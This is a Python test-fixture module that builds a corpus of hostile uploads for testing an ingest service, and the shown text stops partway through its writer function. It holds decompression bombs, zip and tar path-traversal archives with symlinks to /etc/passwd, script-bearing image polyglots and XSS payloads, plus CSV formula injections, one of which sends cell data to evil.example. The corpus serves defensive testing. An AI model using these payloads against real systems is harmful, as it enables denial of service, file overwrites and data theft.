"""The hostile input corpus, generated in code: one small function per case, each returning
``(name, bytes)``, the file name a client would send and the bytes it would send.

Nothing here is a committed blob: every file is built from a few bytes, Pillow, tifffile, zipfile or
tarfile, and most are under 100 KB. ``write_all(folder)`` writes the whole corpus into a folder (for a
manual run through ``manage.py ingest``, or a soak script). The expectations live with the tests
(``tests/hostile/test_hostile_inputs.py``); the README's security table lists each case.

Families: ``IMAGES`` (bombs, truncation, bit flips, polyglots, metadata bombs), ``MESHES`` (lying headers,
NaN/Inf), ``ARCHIVES`` (zip slip, symlinks, zip bomb, tars), ``NAMES`` (hostile file names, sent with a
valid JPEG), plus the CSV and metadata payloads at the end.
"""

from __future__ import annotations

import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import tifffile
from PIL import Image

Case = tuple[str, bytes]

# --------------------------------------------------------------------------------------------- helpers


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def small_jpeg(size: tuple[int, int] = (32, 24), **options) -> bytes:
    """A real JPEG with smooth, seeded content."""
    width, height = size
    x = np.linspace(0, 255, width, dtype=np.float32)[None, :]
    y = np.linspace(0, 255, height, dtype=np.float32)[:, None]
    rgb = np.stack([x + 0 * y, y + 0 * x, (x + y) / 2], axis=-1).astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(rgb).save(buffer, "JPEG", quality=90, **options)
    return buffer.getvalue()


def small_png(size: tuple[int, int] = (32, 24)) -> bytes:
    pixels = np.random.default_rng(7).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, "PNG")
    return buffer.getvalue()


def small_tiff(size: tuple[int, int] = (32, 24)) -> bytes:
    pixels = np.random.default_rng(8).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)
    buffer = io.BytesIO()
    tifffile.imwrite(buffer, pixels, photometric="rgb", metadata=None)
    return buffer.getvalue()


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">HH", marker, len(payload) + 2) + payload


def _with_segments(jpeg: bytes, segments: list[bytes]) -> bytes:
    """Insert ready-made segments right after SOI."""
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def _sof_offset(jpeg: bytes) -> int:
    """Offset of the first SOF0/SOF2 marker of a JPEG."""
    at = 2
    while at < len(jpeg):
        marker, length = struct.unpack_from(">HH", jpeg, at)
        if marker in (0xFFC0, 0xFFC2):
            return at
        at += 2 + length
    raise ValueError("no SOF marker")


def _zip(members: dict[str, bytes], *, symlinks: dict[str, str] | None = None) -> bytes:
    """A zip with exactly these member names (not sanitised by zipfile) and optional symlink members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (0o120777) << 16  # S_IFLNK | 0777
            archive.writestr(info, target)
    return buffer.getvalue()


def _tar(members: dict[str, bytes], *, symlinks: dict[str, str] | None = None, gzip: bool = False) -> bytes:
    """A tar with exactly these member names (``..`` and absolute paths included) and symlink members."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gzip else "w", format=tarfile.GNU_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in (symlinks or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return buffer.getvalue()


TRIANGLE_OBJ = b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n"


# ------------------------------------------------------------------------------------------------ images


def png_bomb() -> Case:
    """A 67-byte PNG announcing 100 000 x 100 000 pixels (10 Gpx)."""
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0))
    idat = png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    return "bomb.png", b"\x89PNG\r\n\x1a\n" + ihdr + idat + png_chunk(b"IEND", b"")


def tiff_bomb() -> Case:
    """A 150-byte TIFF whose IFD announces 100 000 x 100 000 grey pixels in one 16-byte strip."""
    entries = [
        (256, 4, 1, 100_000),  # ImageWidth
        (257, 4, 1, 100_000),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 0),  # StripOffsets (patched below)
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, 100_000),  # RowsPerStrip
        (279, 4, 1, 16),  # StripByteCounts
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    data_at = 8 + ifd_size
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        value = data_at if tag == 273 else value
        packed = struct.pack("<HI", value, 0)[:4] if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    ifd += struct.pack("<I", 0)
    return "bomb.tif", b"II*\x00" + struct.pack("<I", 8) + ifd + bytes(16)


def jpeg_bomb() -> Case:
    """A real 32 x 24 JPEG whose frame header (SOF0) is patched to announce 65 000 x 65 000 pixels."""
    data = bytearray(small_jpeg())
    at = _sof_offset(bytes(data))
    struct.pack_into(">HH", data, at + 5, 65_000, 65_000)  # height, width
    return "bomb.jpg", bytes(data)


def webp_bomb() -> Case:
    """A lossless WebP whose VP8L header announces 16 384 x 16 384 pixels (268 Mpx) over 30 bytes."""
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1)).save(buffer, "WEBP", lossless=True)
    data = bytearray(buffer.getvalue())
    at = data.index(b"VP8L") + 8
    assert data[at] == 0x2F
    (bits,) = struct.unpack_from("<I", data, at + 1)
    bits = (bits & ~((1 << 28) - 1)) | 16383 | (16383 << 14)
    struct.pack_into("<I", data, at + 1, bits)
    return "bomb.webp", bytes(data)


def truncated_jpeg() -> Case:
    data = small_jpeg((128, 96))
    return "truncated.jpg", data[: len(data) // 2]


def truncated_png() -> Case:
    data = small_png((64, 48))
    return "truncated.png", data[: len(data) * 2 // 3]


def truncated_tiff() -> Case:
    data = small_tiff((64, 48))
    return "truncated.tif", data[: len(data) // 2]


def header_only_png() -> Case:
    """The 8-byte PNG signature and nothing else."""
    return "signature-only.png", b"\x89PNG\r\n\x1a\n"


def bitflip_png() -> Case:
    """One flipped byte in the middle of the image data: the chunk CRC no longer matches."""
    data = bytearray(small_png((64, 48)))
    data[len(data) // 2] ^= 0xFF
    return "flipped.png", bytes(data)


def bitflip_jpeg_header() -> Case:
    """The frame header's component count flipped: the JPEG structure is broken."""
    data = bytearray(small_jpeg())
    at = _sof_offset(bytes(data))
    data[at + 9] ^= 0x7F  # number of components
    return "flipped-header.jpg", bytes(data)


def bitflip_jpeg_scan() -> Case:
    """Bytes flipped inside the entropy-coded data: JPEG has no checksum, the decoder may or may not notice."""
    data = bytearray(small_jpeg((64, 48)))
    for offset in range(len(data) - 200, len(data) - 40, 16):
        data[offset] ^= 0x55
    return "flipped-scan.jpg", bytes(data)


def bitflip_tiff_offsets() -> Case:
    """The strip offset points far past the end of the file."""
    data = bytearray(small_tiff())
    entry = tifffile.TiffFile(io.BytesIO(bytes(data))).pages.first.tags["StripOffsets"]
    where = entry.valueoffset if entry.count == 1 else struct.unpack_from("<I", data, entry.valueoffset)[0]
    struct.pack_into("<I", data, where, 0x7FFFFFF0)
    return "bad-offsets.tif", bytes(data)


def tiff_rows_per_strip_double() -> Case:
    """RowsPerStrip retyped as a DOUBLE holding 5e-324: the strip count becomes infinite. Found by fuzzing
    (tifffile raised OverflowError)."""
    data = bytearray(small_tiff())
    (first,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, first)
    for entry in range(first + 2, first + 2 + 12 * count, 12):
        if struct.unpack_from("<H", data, entry)[0] == 278:
            struct.pack_into("<HHII", data, entry, 278, 12, 1, len(data))
    return "rows-per-strip.tif", bytes(data + struct.pack("<d", 5e-324))


def tiff_ifd_loop() -> Case:
    """A TIFF whose first IFD names itself as the next one: an endless page chain."""
    data = bytearray(small_tiff())
    (first,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, first)
    struct.pack_into("<I", data, first + 2 + 12 * count, first)
    return "ifd-loop.tif", bytes(data)


def polyglot_jpeg_zip() -> Case:
    """A valid JPEG followed by a valid zip (with an HTML page and a model in it): a JPEG to image
    readers, a zip to unzip (which reads from the end)."""
    payload = _zip({"index.html": b"<script>alert(1)</script>", "../../evil.obj": TRIANGLE_OBJ})
    return "holiday.jpg", small_jpeg() + payload


def polyglot_jpeg_html() -> Case:
    """A valid JPEG whose comment segment is an HTML page with a script (sniffed as HTML by old browsers)."""
    comment = b"<html><body><script>alert(document.domain)</script></body></html>"
    return "portrait.jpg", _with_segments(small_jpeg(), [_jpeg_segment(0xFFFE, comment)])


def polyglot_gif_js() -> Case:
    """A GIF header that is also a JavaScript statement (GIF89a/*...*/=alert(1))."""
    body = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain);//"
    return "pixel.gif", body + b"\x00" * 16 + b"\x3b"


def polyglot_gif_js_as_jpeg() -> Case:
    """The same GIF/JS polyglot named like a JPEG."""
    return "pixel.jpg", polyglot_gif_js()[1]


def html_named_jpeg() -> Case:
    return "photo.jpg", b"<!DOCTYPE html><html><script>alert(1)</script></html>\n"


def svg_with_script() -> Case:
    """An SVG drawing with an inline script: kept as received, never served inline."""
    return "drawing.svg", (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
    )


def png_icc_bomb() -> Case:
    """A 60 KB PNG whose iCCP chunk inflates to a 60 MB ICC profile."""
    icc = png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"\x00" * (60 * 1024 * 1024), 9))
    data = small_png()
    return "icc-bomb.png", data[:33] + icc + data[33:]


def png_text_bomb() -> Case:
    """A PNG whose zTXt chunk inflates to 100 MB of text."""
    text = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (100 * 1024 * 1024), 9))
    data = small_png()
    return "text-bomb.png", data[:33] + text + data[33:]


def jpeg_large_icc() -> Case:
    """A JPEG with a 4 MB ICC profile in 64 APP2 segments (a profile this big is legal, if absurd)."""
    icc = bytearray(4 * 1024 * 1024)
    struct.pack_into(">I", icc, 0, len(icc))
    icc[36:40] = b"acsp"
    chunk = 65_519 - 14
    parts = [icc[i : i + chunk] for i in range(0, len(icc), chunk)]
    segments = [
        _jpeg_segment(0xFFE2, b"ICC_PROFILE\x00" + bytes([index + 1, len(parts)]) + bytes(part))
        for index, part in enumerate(parts)
    ]
    return "large-icc.jpg", _with_segments(small_jpeg(), segments)


def jpeg_icc_bad_sequence() -> Case:
    """ICC segments that claim to be chunk 7 of 200: the profile cannot be assembled."""
    segment = _jpeg_segment(0xFFE2, b"ICC_PROFILE\x00" + bytes([7, 200]) + b"\x00" * 200)
    return "icc-sequence.jpg", _with_segments(small_jpeg(), [segment])


def _exif(ifd0: bytes, *, order: str = ">") -> bytes:
    magic = b"MM\x00*" if order == ">" else b"II*\x00"
    return b"Exif\x00\x00" + magic + struct.pack(order + "I", 8) + ifd0


def exif_absurd_entry_count() -> Case:
    """EXIF whose IFD0 claims 65 535 entries in a 30-byte block."""
    block = _exif(struct.pack(">H", 0xFFFF) + b"\x00" * 16)
    return "exif-count.jpg", _with_segments(small_jpeg(), [_jpeg_segment(0xFFE1, block)])


def exif_absurd_value_counts() -> Case:
    """EXIF entries whose counts announce 4 G values (16 GB of LONGs, a 4 GB string) at wild offsets."""
    entries = [
        struct.pack(">HHII", 0x010F, 2, 0xFFFFFFFF, 8),  # Make: a 4 GB ASCII string
        struct.pack(">HHII", 0x0110, 4, 0xFFFFFFFF, 0x7FFFFFFF),  # Model as 4 G LONGs
        struct.pack(">HHII", 0x8769, 4, 1, 0xFFFFFFF0),  # Exif sub-IFD far outside the block
        struct.pack(">HHII", 0x8825, 4, 1, 8),  # GPS sub-IFD = IFD0 itself (a loop)
        struct.pack(">HHII", 0x0112, 3, 1, 0x00090000),  # Orientation 9 (no such orientation)
    ]
    ifd0 = struct.pack(">H", len(entries)) + b"".join(entries) + struct.pack(">I", 8)  # next IFD: itself
    block = _exif(ifd0)
    return "exif-values.jpg", _with_segments(small_jpeg(), [_jpeg_segment(0xFFE1, block)])


def exif_bad_types() -> Case:
    """EXIF with unknown entry types, a zero-denominator rational for the resolution and GPS degrees."""
    entries = [
        struct.pack(">HHII", 0x011A, 5, 1, 8 + 2 + 12 * 4 + 4),  # XResolution -> 1/0
        struct.pack(">HHII", 0x011B, 5, 1, 8 + 2 + 12 * 4 + 4),  # YResolution -> 1/0
        struct.pack(">HHII", 0x0128, 99, 1, 0),  # an unknown type
        struct.pack(">HHII", 0x0131, 2, 0, 0),  # Software: an empty string
    ]
    ifd0 = struct.pack(">H", len(entries)) + b"".join(entries) + struct.pack(">I", 0) + struct.pack(">II", 1, 0)
    return "exif-types.jpg", _with_segments(small_jpeg(), [_jpeg_segment(0xFFE1, _exif(ifd0))])


def png_exif_garbage() -> Case:
    """A PNG eXIf chunk full of noise."""
    noise = np.random.default_rng(11).integers(0, 256, 400, dtype=np.uint8).tobytes()
    data = small_png()
    return "exif-noise.png", data[:33] + png_chunk(b"eXIf", b"MM\x00*" + noise) + data[33:]


def png_huge_chunk_length() -> Case:
    """A chunk that declares 2 GB of data in a 200-byte file."""
    data = small_png()
    return "chunk-length.png", data[:33] + struct.pack(">I", 0x7FFFFFF0) + b"tEXt" + b"x" * 40


def empty_file() -> Case:
    return "empty.jpg", b""


def random_bytes_as_tiff() -> Case:
    noise = np.random.default_rng(12).integers(0, 256, 4096, dtype=np.uint8).tobytes()
    return "noise.tif", b"II*\x00" + noise


IMAGES: list[Callable[[], Case]] = [
    png_bomb,
    tiff_bomb,
    jpeg_bomb,
    webp_bomb,
    truncated_jpeg,
    truncated_png,
    truncated_tiff,
    header_only_png,
    bitflip_png,
    bitflip_jpeg_header,
    bitflip_jpeg_scan,
    bitflip_tiff_offsets,
    tiff_ifd_loop,
    tiff_rows_per_strip_double,
    polyglot_jpeg_zip,
    polyglot_jpeg_html,
    polyglot_gif_js,
    polyglot_gif_js_as_jpeg,
    html_named_jpeg,
    svg_with_script,
    png_icc_bomb,
    png_text_bomb,
    jpeg_large_icc,
    jpeg_icc_bad_sequence,
    exif_absurd_entry_count,
    exif_absurd_value_counts,
    exif_bad_types,
    png_exif_garbage,
    png_huge_chunk_length,
    empty_file,
    random_bytes_as_tiff,
]


# ------------------------------------------------------------------------------------------------ meshes

_PLY_XYZ = b"property float x\nproperty float y\nproperty float z\n"
_PLY_FACE = b"element face 1\nproperty list uchar int vertex_indices\n"


def ply_ascii_2e9_vertices() -> Case:
    """A 200-byte ASCII PLY announcing 2 x 10^9 vertices (the Open3D out-of-memory case)."""
    header = b"ply\nformat ascii 1.0\nelement vertex 2000000000\n" + _PLY_XYZ + _PLY_FACE + b"end_header\n"
    return "two-billion.ply", header + b"0 0 0\n1 0 0\n0 1 0\n3 0 1 2\n"


def ply_binary_count_beyond_size() -> Case:
    """A binary PLY announcing 1000 vertices and holding 3."""
    header = b"ply\nformat binary_little_endian 1.0\nelement vertex 1000\n" + _PLY_XYZ + _PLY_FACE + b"end_header\n"
    vertices = np.array([[0, 0, 0], [1, 0, 0], [0, 1, 0]], "<f4").tobytes()
    return "short.ply", header + vertices + b"\x03" + np.array([0, 1, 2], "<i4").tobytes()


def ply_negative_count() -> Case:
    header = b"ply\nformat ascii 1.0\nelement vertex -3\n" + _PLY_XYZ + b"end_header\n"
    return "negative.ply", header + b"0 0 0\n"


def ply_header_without_end() -> Case:
    """A PLY header that never ends (2 MB of comments)."""
    return "endless.ply", b"ply\nformat ascii 1.0\n" + b"comment " + b"x" * 2_000_000 + b"\n"


def _binary_ply(vertices: np.ndarray, faces: list[list[int]]) -> bytes:
    header = (
        f"ply\nformat binary_little_endian 1.0\nelement vertex {len(vertices)}\n".encode()
        + _PLY_XYZ
        + f"element face {len(faces)}\nproperty list uchar int vertex_indices\nend_header\n".encode()
    )
    body = np.asarray(vertices, "<f4").tobytes()
    for face in faces:
        body += bytes([len(face)]) + np.asarray(face, "<i4").tobytes()
    return header + body


def ply_nan() -> Case:
    vertices = np.array([[0, 0, 0], [1, 0, 0], [np.nan, 1, 0]])
    return "nan.ply", _binary_ply(vertices, [[0, 1, 2]])


def ply_inf() -> Case:
    vertices = np.array([[0, 0, 0], [np.inf, 0, 0], [0, -np.inf, 0]])
    return "inf.ply", _binary_ply(vertices, [[0, 1, 2]])


def ply_face_index_out_of_range() -> Case:
    vertices = np.array([[0, 0, 0], [1, 0, 0], [0, 1, 0]])
    return "index.ply", _binary_ply(vertices, [[0, 1, 2_000_000_000]])


def ply_negative_face_index() -> Case:
    vertices = np.array([[0, 0, 0], [1, 0, 0], [0, 1, 0]])
    return "negative-index.ply", _binary_ply(vertices, [[0, -1, 2]])


def obj_nan() -> Case:
    return "nan.obj", b"v 0 0 0\nv nan 0 0\nv 0 1 0\nf 1 2 3\n"


def obj_inf() -> Case:
    return "inf.obj", b"v 0 0 0\nv 1e999 0 0\nv 0 -inf 0\nf 1 2 3\n"


def obj_face_index_out_of_range() -> Case:
    return "index.obj", b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 99999999999999999999\n"


def obj_only_faces() -> Case:
    return "faces-only.obj", b"f 1 2 3\nf 4 5 6\n"


def stl_binary_2e9_triangles() -> Case:
    """A binary STL header announcing 2 x 10^9 triangles over one real triangle (134 bytes)."""
    triangle = np.zeros(1, dtype=[("n", "<f4", (3,)), ("v", "<f4", (3, 3)), ("a", "<u2")])
    triangle["v"] = [[0, 0, 0], [1, 0, 0], [0, 1, 0]]
    return "two-billion.stl", b"solid-ish".ljust(80, b" ") + struct.pack("<I", 2_000_000_000) + triangle.tobytes()


def stl_binary_nan() -> Case:
    triangles = np.zeros(2, dtype=[("n", "<f4", (3,)), ("v", "<f4", (3, 3)), ("a", "<u2")])
    triangles["v"][0] = [[0, 0, 0], [1, 0, 0], [0, 1, 0]]
    triangles["v"][1] = [[0, 0, 0], [np.nan, 0, 0], [0, np.inf, 0]]
    return "nan.stl", b"binary".ljust(80, b" ") + struct.pack("<I", 2) + triangles.tobytes()


def stl_ascii_unclosed() -> Case:
    return "unclosed.stl", b"solid x\nfacet normal 0 0 1\nouter loop\nvertex 0 0 0\nvertex 1 0 0\nvertex 0 1 0\n"


def off_lying_counts() -> Case:
    return "lying.off", b"OFF\n2000000000 2000000000 0\n0 0 0\n1 0 0\n0 1 0\n3 0 1 2\n"


def off_inf() -> Case:
    return "inf.off", b"OFF\n3 1 0\n0 0 0\ninf 0 0\n0 1 0\n3 0 1 2\n"


def glb_lying_accessor() -> Case:
    """A GLB whose accessor announces 10^9 vertices in a 36-byte buffer."""
    import json

    document = {
        "asset": {"version": "2.0"},
        "buffers": [{"byteLength": 36}],
        "bufferViews": [{"buffer": 0, "byteOffset": 0, "byteLength": 36}],
        "accessors": [
            {
                "bufferView": 0,
                "componentType": 5126,
                "count": 1_000_000_000,
                "type": "VEC3",
                "min": [0, 0, 0],
                "max": [1, 1, 0],
            }
        ],
        "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}],
        "nodes": [{"mesh": 0}],
        "scenes": [{"nodes": [0]}],
    }
    text = json.dumps(document).encode()
    text += b" " * (-len(text) % 4)
    binary = np.array([[0, 0, 0], [1, 0, 0], [0, 1, 0]], "<f4").tobytes()
    body = struct.pack("<II", len(text), 0x4E4F534A) + text + struct.pack("<II", len(binary), 0x004E4942) + binary
    return "lying.glb", b"glTF" + struct.pack("<II", 2, 12 + len(body)) + body


def ply_ascii_value_out_of_type() -> Case:
    """An ASCII PLY whose colour value 200 does not fit its declared ``char`` (-128..127). Found by fuzzing:
    plyfile raised OverflowError."""
    header = b"ply\nformat ascii 1.0\nelement vertex 3\n" + _PLY_XYZ + b"property char red\n" + _PLY_FACE
    return "out-of-type.ply", header + b"end_header\n0 0 0 200\n1 0 0 1\n0 1 0 1\n3 0 1 2\n"


def ply_ascii_list_count_out_of_type() -> Case:
    """A face list announcing 300 entries in a ``uchar`` count (found by fuzzing: OverflowError)."""
    header = b"ply\nformat ascii 1.0\nelement vertex 3\n" + _PLY_XYZ + _PLY_FACE
    return "list-count.ply", header + b"end_header\n0 0 0\n1 0 0\n0 1 0\n300 0 1 2\n"


def obj_index_beyond_int64() -> Case:
    """A face index above 2^63 (found by fuzzing: trimesh raised OverflowError)."""
    return "int64.obj", b"v 0 0 0\nf 1 1 99999999999999999999\nf 1\n"


def off_index_beyond_int64() -> Case:
    """The same in an OFF face (found by fuzzing)."""
    return "int64.off", b"OFF\n3 1 0\n0 0 0\n1 0 0\n0 1 0\n3 0 1 99999999999999999999\n"


def glb_infinite_count() -> Case:
    """A glTF accessor count of 1e400, which JSON readers turn into infinity (found by fuzzing)."""
    data = glb_lying_accessor()[1]
    infinite = data.replace(b'"count": 1000000000', b'"count": 1e400     ')  # same length: chunk sizes hold
    assert len(infinite) == len(data)
    return "infinite.glb", infinite


MESHES: list[Callable[[], Case]] = [
    ply_ascii_2e9_vertices,
    ply_binary_count_beyond_size,
    ply_negative_count,
    ply_header_without_end,
    ply_nan,
    ply_inf,
    ply_face_index_out_of_range,
    ply_negative_face_index,
    obj_nan,
    obj_inf,
    obj_face_index_out_of_range,
    obj_only_faces,
    stl_binary_2e9_triangles,
    stl_binary_nan,
    stl_ascii_unclosed,
    off_lying_counts,
    off_inf,
    glb_lying_accessor,
    ply_ascii_value_out_of_type,
    ply_ascii_list_count_out_of_type,
    obj_index_beyond_int64,
    off_index_beyond_int64,
    glb_infinite_count,
]


# ---------------------------------------------------------------------------------------------- archives


def zip_slip() -> Case:
    return "slip.zip", _zip({"../../evil.obj": TRIANGLE_OBJ})


def zip_absolute_path() -> Case:
    return "absolute.zip", _zip({"/tmp/evil.obj": TRIANGLE_OBJ})


def zip_backslash_slip() -> Case:
    return "backslash.zip", _zip({"..\\..\\evil.obj": TRIANGLE_OBJ})


def zip_drive_letter() -> Case:
    return "drive.zip", _zip({"C:/Windows/evil.obj": TRIANGLE_OBJ})


def zip_symlink() -> Case:
    """A model zip whose texture is a symbolic link to /etc/passwd."""
    return "symlink.zip", _zip({"scan.obj": TRIANGLE_OBJ}, symlinks={"wall.png": "/etc/passwd"})


def zip_symlinked_folder_then_write() -> Case:
    """The classic two-step: a link ``dir -> /tmp`` then a file ``dir/evil.obj`` written through it."""
    return "link-then-write.zip", _zip({"dir/evil.obj": TRIANGLE_OBJ}, symlinks={"dir": "/tmp"})


def zip_control_characters() -> Case:
    return "control.zip", _zip({"scan\x1b[31m.obj": TRIANGLE_OBJ})


def zip_duplicate_names() -> Case:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": exactly what this case is about
        archive.writestr("scan.obj", TRIANGLE_OBJ)
        archive.writestr("scan.obj", b"v 9 9 9\n")
    return "duplicate.zip", buffer.getvalue()


def zip_bomb() -> Case:
    """A 20 KB zip whose model member declares 1000 bytes and inflates to 20 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("scan.obj", b"v 0 0 0\n" * (20 * 1024 * 1024 // 8))
    data = bytearray(buffer.getvalue())
    struct.pack_into("<I", data, 22, 1000)  # uncompressed size, local header
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 1000)  # uncompressed size, central directory
    return "bomb.zip", bytes(data)


def zip_too_many_members() -> Case:
    """10 001 empty members (the limit is 10 000), one of them a model."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("scan.obj", TRIANGLE_OBJ)
        for index in range(10_000):
            archive.writestr(f"f/{index}.txt", b"")
    return "many.zip", buffer.getvalue()


def zip_encrypted_member() -> Case:
    data = bytearray(_zip({"scan.obj": TRIANGLE_OBJ}))
    struct.pack_into("<H", data, 6, 1)  # general purpose flag: encrypted (local header)
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 8, 1)
    return "encrypted.zip", bytes(data)


def corrupt_deflate(members: dict[str, bytes], damaged: str) -> bytes:
    """A zip whose member ``damaged`` has its compressed stream broken (a reserved deflate block type) while
    its names, sizes and CRC stay as declared: zipfile lets zlib.error through (found by fuzzing)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    data = bytearray(buffer.getvalue())
    at = 0  # the first local file header
    while True:
        name_length, extra_length = struct.unpack_from("<HH", data, at + 26)
        if data[at + 30 : at + 30 + name_length].decode() == damaged:
            data[at + 30 + name_length + extra_length] = 0xFF  # BFINAL=1, BTYPE=11: "invalid block type"
            return bytes(data)
        (compressed,) = struct.unpack_from("<I", data, at + 18)
        at += 30 + name_length + extra_length + compressed


def zip_corrupt_deflate() -> Case:
    return "damaged.zip", corrupt_deflate({"scan.obj": TRIANGLE_OBJ * 50}, "scan.obj")


def tar_slip() -> Case:
    """A tar with ``..`` and absolute members and a symlink to /etc: the archive never unpacks a tar."""
    members = {"../../evil.obj": TRIANGLE_OBJ, "/tmp/evil-absolute.obj": TRIANGLE_OBJ}
    return "scan.tar", _tar(members, symlinks={"etc": "/etc", "passwd.obj": "/etc/passwd"})


def tar_gz_slip() -> Case:
    return "scan.tar.gz", _tar({"../../evil.obj": TRIANGLE_OBJ}, symlinks={"link": "/"}, gzip=True)


def tar_named_like_a_model() -> Case:
    return "scan.obj", _tar({"../../evil.obj": TRIANGLE_OBJ})


ARCHIVES: list[Callable[[], Case]] = [
    zip_slip,
    zip_absolute_path,
    zip_backslash_slip,
    zip_drive_letter,
    zip_symlink,
    zip_symlinked_folder_then_write,
    zip_control_characters,
    zip_duplicate_names,
    zip_bomb,
    zip_too_many_members,
    zip_encrypted_member,
    zip_corrupt_deflate,
    tar_slip,
    tar_gz_slip,
    tar_named_like_a_model,
]


# ------------------------------------------------------------------------------------------------- names
# Hostile names, each sent with the bytes of a valid JPEG.

HOSTILE_NAMES: dict[str, str] = {
    "traversal": "../../etc/passwd.jpg",
    "windows-traversal": "..\\..\\windows\\system32\\evil.jpg",
    "absolute": "/etc/cron.d/evil.jpg",
    "drive": "C:\\Users\\evil.jpg",
    "nul": "photo\x00.jpg",
    "newline": "photo\n.jpg",
    "carriage-return": "photo\r.jpg",
    "tab": "photo\t.jpg",
    "ansi-escape": "photo\x1b[2J.jpg",
    "delete-char": "photo\x7f.jpg",
    "rtl-override": "invoice\u202egpj.exe",
    "rtl-embedding": "photo\u202b.jpg",
    "isolate": "photo\u2066gpj.exe\u2069.jpg",
    "300-characters": "x" * 296 + ".jpg",
    "blank": "   ",
}

# Names that are odd but not hostile: accepted, stored under a safe form.
ODD_NAMES: dict[str, str] = {
    "html": '"><img src=x onerror=alert(1)>.jpg',
    "script": "<script>alert(1)</script>.jpg",
    "long-arabic": "ص" * 240 + ".jpg",
    "long-cjk": "写" * 200 + ".jpg",
    "dots": "...jpg",
    "zero-width": "pho\u200bto.jpg",
    "windows-device": "CON.jpg",
}


def named(name: str) -> Case:
    return name, small_jpeg()


# ---------------------------------------------------------------------------------------- text payloads

# CSV cells a spreadsheet would run as a formula (OWASP "CSV injection").
CSV_FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "'=already quoted",
]

# Markup that must come out as text wherever catalogue text is shown or exported.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script>",
    "'-alert(3)-'",
    "<svg/onload=alert(4)>",
    "]]><x>&amp;&lt;</x><![CDATA[",
    "javascript:alert(5)",
    "{{ settings.SECRET_KEY }}{% debug %}",
]

# URLs that must never become a link or a stored rights statement.
HOSTILE_URLS = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'http://rightsstatements.org/vocab/InC/1.0/"><script>alert(1)</script>',
]


# ------------------------------------------------------------------------------------------------- all


def every_file_case() -> list[Callable[[], Case]]:
    return [*IMAGES, *MESHES, *ARCHIVES]


def write_all(folder: Path) -> list[Path]:
    """Write every file case into ``folder`` (one subfolder per family); returns the paths written.

    Hostile names cannot all be file names on disk, so name cases are written as ``name-<key>.jpg``
    with the hostile name in ``names.txt``.
    """
    written = []
    for family, cases in (("images", IMAGES), ("meshes", MESHES), ("archives", ARCHIVES)):
        target = folder / family
        target.mkdir(parents=True, exist_ok=True)
        for case in cases:
            name, data = case()
            path = target / f"{case.__name__}-{Path(name).name}"
            path.write_bytes(data)
            written.append(path)
    names = folder / "names"
    names.mkdir(parents=True, exist_ok=True)
    listing = []
    for key, name in {**HOSTILE_NAMES, **ODD_NAMES}.items():
